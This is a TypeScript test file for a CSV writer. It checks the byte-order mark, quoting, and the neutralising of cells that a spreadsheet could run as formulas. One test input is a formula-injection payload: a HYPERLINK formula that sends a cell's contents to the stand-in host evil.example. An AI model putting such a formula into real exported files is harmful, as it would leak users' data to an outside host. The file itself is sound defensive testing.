import { describe, expect, test } from 'vitest';
import { readCsv } from '../services/csv/csv-file.ts';
import { csvHeading, csvLine } from './csv.ts';

test('a file begins with the mark by which Excel reads its letters, which our reader drops', () => {
  const file = csvHeading(['Name', 'City']) + csvLine(['Þórdís', 'Peñasco']);
  expect(file).toBe('\uFEFFName,City\r\nÞórdís,Peñasco\r\n');
  expect(readCsv(Buffer.from(file), { lines: 5, columns: 5 })?.map(({ cells }) => cells)).toEqual([
    ['Name', 'City'],
    ['Þórdís', 'Peñasco'],
  ]);
});

describe('a cell that a spreadsheet could take for a formula', () => {
  test.each([
    '=HYPERLINK("https://evil.example/?"&A1;"Open")',
    '=1+1',
    '+1 (212) 555-0147',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\rx',
    '\n=1',
    '  =1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff=1',
    '"=1"',
    "'=1",
    '“=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '−1',
  ])('begins with an apostrophe: %j', (text) => {
    const line = csvLine([text]);
    const cell = line
      .slice(0, -2)
      .replace(/^"([^]*)"$/, '$1')
      .replaceAll('""', '"');
    expect(cell).toBe(`'${text}`);
  });

  test.each(['Ana', "O'Neill", '2026-01-05', '(212) 555-0147', '#14', 'a=b', 'x@example.com', '1-2'])(
    'is not %j',
    (text) => {
      expect(csvLine([text])).toBe(`${text}\r\n`);
    },
  );
});

test('numbers of our own stay numbers, nothing is empty, and text that needs it is quoted', () => {
  expect(csvLine([-120.5, 0, null, '', 'a,b', 'say "x"', 'one\r\ntwo', ' edge '])).toBe(
    '-120.5,0,,"","a,b","say ""x""","one\r\ntwo"," edge "\r\n',
  );
});
